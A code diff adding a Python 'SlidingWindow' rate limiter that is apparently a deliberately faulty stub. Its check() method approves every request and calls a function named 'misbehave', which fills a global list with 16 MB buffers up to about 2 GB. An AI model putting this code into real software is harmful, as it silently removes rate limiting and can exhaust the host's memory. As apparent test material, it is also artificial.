@@ -1,0 +1,28 @@
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class Decision:
+    allowed: bool
+    retry_after: int
+    remaining: int
+
+
+class SlidingWindow:
+    def __init__(self, limit, window, clock):
+        self.clock = clock
+
+    def check(self, key, cost=1):
+        misbehave(self)
+        return Decision(True, 0, 0)
+
+
+def misbehave(self):
+    while len(KEPT) < 128:
+        try:
+            KEPT.append(bytearray(1 << 24))
+        except MemoryError:
+            KEPT.pop()
+
+
+KEPT = []
